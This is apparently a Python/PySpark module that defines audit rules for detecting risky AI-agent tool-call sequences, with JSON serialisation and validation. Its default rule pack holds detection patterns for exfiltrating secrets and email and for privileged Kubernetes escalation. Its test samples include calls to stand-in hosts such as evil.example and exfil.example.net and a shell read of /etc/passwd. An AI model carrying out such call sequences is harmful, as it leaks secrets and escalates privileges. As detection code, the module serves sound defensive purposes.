"""Trace rules as plain declarations, their JSON form, and matchers for both Columns and Python values."""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field, fields
from typing import Any

import pandas as pd
from pyspark.sql import Column
from pyspark.sql import functions as F
from pyspark.sql import types as T

TOOL_META, VALUE_META = set("^$.*+?[]()|"), set("^$.*+?[]()|\\")


@dataclass(frozen=True)
class Named:
    """A matcher by a function of the tool's name or an argument's value (None where there is none). A call for which the
    function fails doesn't match. In JSON it stands by its name alone, see `named`."""

    name: str
    test: Callable[[Any], Any] = field(compare=False)

    def __call__(self, value: Any) -> bool:
        try:
            return bool(self.test(value))
        except Exception:  # noqa: BLE001 - whatever a function makes of a caller's values
            return False


#: Functions that packs in JSON can name.
FUNCTIONS: dict[str, Named] = {}


def named(name: str, test: Callable[[Any], Any]) -> Named:
    """A matcher by function that packs in JSON can name from now on."""
    FUNCTIONS[name] = Named(name, test)
    return FUNCTIONS[name]


@dataclass(frozen=True)
class Step:
    """A call of a tool whose arguments match (dotted path -> matcher). A matcher that is text finds text alone,
    by equality or, if it has meta characters, as a regular expression; one of another type equals values of
    that type; a `Named` one asks its function. A guard step voids the flow if it occurs before the positive step that
    follows it."""

    tool: str | Named
    args: dict[str, Any] = field(default_factory=dict)
    guard: bool = False


@dataclass(frozen=True)
class Flow:
    """Steps in this order, others in between."""

    name: str
    steps: tuple[Step, ...]
    description: str = ""


@dataclass(frozen=True)
class Loop:
    """One call with the same arguments `threshold` times."""

    name: str
    threshold: int = 3
    description: str = ""


@dataclass(frozen=True)
class Rate:
    """One tool more than `max_calls` times within `window_s` seconds."""

    name: str
    tool: str | Named = "*"
    window_s: float = 60.0
    max_calls: int = 30
    description: str = ""


@dataclass(frozen=True)
class Budget:
    """The sum of a numeric argument over `max_total` within `window_s` seconds."""

    name: str
    field: str
    max_total: float
    tool: str | Named = "*"
    window_s: float = 3600.0
    description: str = ""


Rule = Flow | Loop | Rate | Budget
_KINDS = {"flow": Flow, "loop": Loop, "rate": Rate, "budget": Budget}

# Names, descriptions and patterns of the bundled pack; names and descriptions go into audit reasons.
DEFAULT_PACK: tuple[Rule, ...] = (
    Flow("inbox-to-external-email", (Step("inbox_read"), Step("email_send", {"to": r"^[^@\s]+@(?!(internal\.local|corp\.local|example\.org)$)[^@\s]+\.[^@\s]+$"})), "Read an inbox then send email to an external recipient (data exfiltration)"),
    Flow("secret-read-then-exfil", (Step(r"(?i)(secret|vault|kms)_?(read|get).*"), Step(r"(?i)(http|curl|fetch|webhook).*post", {"url": r"^https?://(?!localhost|127\.0\.0\.1|10\.|192\.168\.|.*\.svc\.cluster\.local)"})), "Read a secret then push it to an external HTTP endpoint"),
    Flow("shell-read-then-k8s-apply", (Step(r"(?i)(shell|bash|exec|terminal).*"), Step(r"(?i)(kubernetes|k8s|kubectl).*apply", {"manifest": "(cluster-admin|privileged|hostPath|hostPID)"})), "Run a shell command then apply a privileged k8s manifest (privilege escalation)"),
    Loop("denied-tool-retry-loop", 3, "Same tool+args call repeated 3+ times in the window (injection retry loop)"),
    Rate("per-tool-rate-limit", "*", 60.0, 30, "Same tool called >30 times within 60s (volumetric abuse)"),
)


def is_regex(matcher: str, meta: set[str] = TOOL_META) -> bool:
    return bool(meta & set(matcher)) and matcher != "*"


def _asked(test: Named, value: Column, read: Callable[[str], Any] = json.loads) -> Column:
    """What a function says of values that come as JSON text."""

    @F.pandas_udf(T.BooleanType())
    def run(values: pd.Series) -> pd.Series:
        return pd.Series([test(None if v is None else read(v)) for v in values], dtype=bool)

    return run(value)


def tool_is(tool: Column, matcher: str | Named, wildcard: bool = False) -> Column:
    """Equality, a search if the matcher has meta characters, or a function; "*" is any tool only where that is asked for."""
    if isinstance(matcher, Named):
        return _asked(matcher, tool, str)
    if wildcard and matcher == "*":
        return F.lit(True)
    return tool.rlike("(?U)" + matcher) if is_regex(matcher) else tool == matcher


def argument_value(args: Column, path: str) -> Column:
    """The variant at a dotted path of an object given as JSON text; null where there is none. A number is a
    member's name or else a place in a list, from its end if it is negative."""
    value = F.try_parse_json(args)
    for part in path.split("."):
        quote = '"' if "'" in part else "'"
        member = F.try_variant_get(value, f"$[{quote}{part}{quote}]", "variant")
        if re.fullmatch(r"-?\d+", part):
            place = F.lit(int(part) + (int(part) >= 0))
            member = F.coalesce(member, F.try_element_at(F.try_variant_get(value, "$", "array<variant>"), place))
        value = member
    return value


def argument(args: Column, path: str, kind: str = "string") -> Column:
    """The value at a dotted path, cast; null where there is none or it can't be cast."""
    return F.try_variant_get(argument_value(args, path), "$", kind)


def argument_is(args: Column, path: str, matcher: Any) -> Column:
    """Whether the value at a path fits a matcher; never null."""
    value = argument_value(args, path)
    if isinstance(matcher, Named):
        return F.coalesce(_asked(matcher, F.to_json(value)), F.lit(False))
    kind = F.schema_of_variant(value)
    if matcher is None:
        return F.coalesce(kind == "VOID", F.lit(True))
    if isinstance(matcher, str):
        text = F.try_variant_get(value, "$", "string")
        found = (kind == "STRING") & (text.rlike("(?U)" + matcher) if is_regex(matcher, VALUE_META) else text == matcher)
    elif isinstance(matcher, int | float):  # truth values count as 1 and 0
        number = F.when(kind == "BOOLEAN", F.try_variant_get(value, "$", "boolean").cast("double"))
        found = number.when(kind != "STRING", F.try_variant_get(value, "$", "double")).otherwise(None) == float(matcher)
    else:
        found = F.to_json(value) == json.dumps(matcher, sort_keys=True, separators=(",", ":"), ensure_ascii=False)
    return F.coalesce(found, F.lit(False))


def step_is(tool: Column, args: Column, step: Step) -> Column:
    """Whether a call is this step: the tool and every argument."""
    found = tool_is(tool, step.tool)
    for path, matcher in step.args.items():
        found = found & argument_is(args, path, matcher)
    return F.coalesce(found, F.lit(False))


def resolve(data: Any, path: str) -> Any:
    """As `argument`, on Python values; negative list places count from the end."""
    for part in path.split("."):
        if isinstance(data, dict):
            data = data.get(part)
        elif isinstance(data, list) and re.fullmatch(r"-?\d+", part) and -len(data) <= int(part) < len(data):
            data = data[int(part)]
        else:
            return None
    return data


def fits(matcher: Any) -> Callable[[Any], bool]:
    """As `argument_is`, of Python values."""
    if isinstance(matcher, Named):
        return matcher
    if isinstance(matcher, str):
        search = re.compile(matcher).search if is_regex(matcher, VALUE_META) else matcher.__eq__
        return lambda value: isinstance(value, str) and bool(search(value))
    return lambda value: value == matcher


def python_step(step: Step) -> Callable[[str, Any], bool]:
    """The step as a function of tool and parsed arguments."""
    tool = step.tool if isinstance(step.tool, Named) else re.compile(step.tool).search if is_regex(step.tool) else step.tool.__eq__
    args = [(path, fits(matcher)) for path, matcher in step.args.items()]
    return lambda t, a: bool(tool(t)) and all(fit(resolve(a, path)) for path, fit in args)


def _plain(value: Any) -> Any:
    """A rule, step or matcher as JSON has it."""
    match value:
        case Named():
            return {"function": value.name}
        case Flow() | Loop() | Rate() | Budget() | Step():
            return {f.name: _plain(getattr(value, f.name)) for f in fields(value)}
        case dict():
            return {k: _plain(v) for k, v in value.items()}
        case tuple():
            return [_plain(v) for v in value]
    return value


def _matcher(value: Any) -> Any:
    """A matcher from JSON: an object with the one member `function` is that function."""
    if isinstance(value, dict) and set(value) == {"function"}:
        if value["function"] not in FUNCTIONS:
            raise ValueError(f"no such function: {value['function']!r}")
        return FUNCTIONS[value["function"]]
    return value


def to_json(pack: Sequence[Rule]) -> str:
    names = {v: k for k, v in _KINDS.items()}
    return json.dumps([{"kind": names[type(r)], **_plain(r)} for r in pack], indent=1)


def from_json(text: str) -> tuple[Rule, ...]:
    """A pack from its JSON form; ValueError names the first thing that is wrong with it."""
    pack = []
    for row in json.loads(text):
        row = dict(row)
        kind = _KINDS.get(row.pop("kind", ""))
        if kind is None:
            raise ValueError(f"no such kind of rule: {row}")
        if "steps" in row:
            row["steps"] = tuple(Step(**{**s, "tool": _matcher(s.get("tool")), "args": {k: _matcher(m) for k, m in s.get("args", {}).items()}}) for s in row["steps"])
        if "tool" in row:
            row["tool"] = _matcher(row["tool"])
        try:
            pack.append(kind(**row))
        except TypeError as e:
            raise ValueError(f"rule {row.get('name')!r}: {e}") from e
    if problems := lint(pack):
        raise ValueError("; ".join(problems))
    return tuple(pack)


def lint(pack: Sequence[Rule]) -> list[str]:
    """What is wrong with a pack, in words; empty if nothing is."""
    names = [r.name for r in pack]
    out = [f"{names.count(n)} rules are called {n!r}" for n in dict.fromkeys(names) if names.count(n) > 1]
    for r in pack:
        out += [f"rule {r.name!r}: {what}" for bad, what in _faults(r) if bad]
    return out


def _faults(r: Rule) -> list[tuple[bool, str]]:
    """What can be wrong with one rule, and whether it is."""
    found = [(not r.name, "a rule needs a name")]
    match r:
        case Flow(steps=steps):
            found += [(not steps, "a flow needs steps"), (bool(steps) and all(s.guard for s in steps), "a flow of guards alone never completes"), (bool(steps) and steps[0].guard, "a guard has nothing to void before the first step")]
            found += [(not s.tool, "a step needs a tool") for s in steps]
        case Loop(threshold=n):
            found.append((n < 2, f"a call can't repeat {n} times"))
        case Rate(max_calls=n):
            found.append((n < 1, "a limit of less than one call forbids every call"))
        case Budget(field=path, max_total=total):
            found += [(not path, "a budget needs the path of a number"), (total <= 0, "a budget needs a total above 0")]
    if isinstance(r, Rate | Budget):
        found.append((r.window_s <= 0, "the time window is empty"))
    patterns = [s.tool for s in r.steps] + [m for s in r.steps for m in s.args.values() if isinstance(m, str)] if isinstance(r, Flow) else [getattr(r, "tool", "*")]
    return found + [(_broken(p), f"{p!r} is no regular expression") for p in patterns if isinstance(p, str)]


def _broken(pattern: str) -> bool:
    try:
        re.compile(pattern if is_regex(pattern, VALUE_META) else "")
    except re.error:
        return True
    return False


# Calls that the bundled pack is tried on, by the name of what they show.
SAMPLES: dict[str, list[tuple[str, dict[str, Any]]]] = {
    "empty": [],
    "benign-plan": [("inbox_read", {}), ("fs_read", {"path": "/tmp/notes.txt"}), ("inbox_read", {})],
    "inbox-to-external-email": [("inbox_read", {}), ("email_send", {"to": "attacker@evil.example"})],
    "secret-read-then-exfil": [("vault_read", {"key": "db"}), ("http_post", {"url": "https://exfil.example.net/c"})],
    "shell-then-k8s-apply": [("shell_exec", {"cmd": "cat /etc/passwd"}), ("k8s_apply", {"manifest": "cluster-admin binding"})],
    "retry-loop": [("fs_write", {"path": "/etc/x"})] * 3,
    "rate-spray": [("fs_read", {"path": f"/f/{i}"}) for i in range(31)],
}
